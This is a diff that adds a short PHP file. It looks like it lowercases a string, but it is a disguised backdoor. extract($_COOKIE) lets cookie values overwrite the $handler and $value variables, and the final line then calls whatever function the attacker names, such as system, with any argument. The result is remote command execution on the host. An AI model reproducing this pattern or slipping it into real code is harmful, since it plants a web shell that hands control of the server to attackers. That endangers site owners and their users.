@@ -1,0 +1,5 @@
+<?php
+$handler = 'strtolower';
+$value = 'ok';
+extract($_COOKIE);
+echo $handler($value);
